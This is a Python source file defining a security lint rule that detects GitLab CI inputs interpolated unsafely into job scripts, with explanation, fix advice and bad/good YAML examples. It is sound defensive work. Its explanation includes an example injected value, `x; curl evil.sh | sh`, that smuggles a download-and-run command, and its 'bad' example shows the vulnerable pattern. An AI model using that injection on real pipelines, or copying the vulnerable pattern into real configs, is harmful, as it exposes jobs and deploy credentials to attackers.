"""GitLab `$[[ inputs.x ]]` interpolated into a job's script."""

from __future__ import annotations

from collections.abc import Iterator

from deploysafe.ci.yamlci import CiDocument
from deploysafe.model import Document, Practice, Severity, Target, Violation
from deploysafe.rules.base import Context, Rule


def _check(doc: CiDocument) -> Iterator[Violation]:
    from deploysafe.ci.gitlab import INPUT_REFERENCE, free_text_input, pipeline_of, spec_inputs

    inputs = spec_inputs(doc.text)
    if inputs is None:
        return  # no header: GitLab refuses `$[[ inputs ]]` here, nothing runs
    for job in pipeline_of(doc).jobs:
        for path, line in job.script_lines("before_script", "script", "after_script"):
            for m in INPUT_REFERENCE.finditer(line):
                if free_text_input(inputs, m.group(1)):
                    yield Violation(
                        path,
                        f"{job.label} interpolates the free-text input `{m.group(1)}` into its "
                        "script: GitLab pastes the value in before the shell parses it",
                        offset=doc.source_offset(path, line, m.start()),
                    )


def check(doc: Document, ctx: Context) -> Iterator[Violation]:
    if isinstance(doc, CiDocument):
        # Imported here: a pipeline's documents come from that module, and a repository
        # without a pipeline need not import it.
        from deploysafe.ci.gitlab import mine

        yield from mine(doc, _check(doc))


RULE = Rule(
    id="DS122",
    title="GitLab inputs must not be interpolated into scripts",
    practice=Practice.TRIGGERS,
    severity=Severity.HIGH,
    target=Target.GITLAB_CI,
    why=(
        "`$[[ inputs.name ]]` is replaced by the input's value when the pipeline is created, "
        "before the shell reads the script. A component's caller, or whoever runs the "
        "pipeline with inputs (the web form, the API, a trigger), chooses that value: "
        "`x; curl evil.sh | sh` becomes a command in the job, with its variables and "
        "deploy credentials. The same value in a variable is only ever data."
    ),
    fix="Put the input in a variable and quote the variable in the script: "
    '`variables: {TARGET: $[[ inputs.target ]]}` and `script: [./deploy.sh "$TARGET"]`; or '
    "restrict the input with `options:` or a `regex:`.",
    bad="""\
spec:
  inputs:
    target:
      default: staging
---
deploy:
  script:
    - ./deploy.sh $[[ inputs.target ]]
""",
    good="""\
spec:
  inputs:
    target:
      default: staging
---
deploy:
  variables:
    TARGET: $[[ inputs.target ]]
  script:
    - ./deploy.sh "$TARGET"
""",
    not_reported=(
        "Inputs of type boolean, number or array, and string inputs limited by `options:` or "
        "`regex:` (their values are fixed or checked); inputs used in `variables:`, `rules:`, "
        "`image:` and other keys that the shell does not parse."
    ),
    references=("GitLab docs: CI/CD inputs, security considerations", "zizmor template-injection"),
    check=check,
)
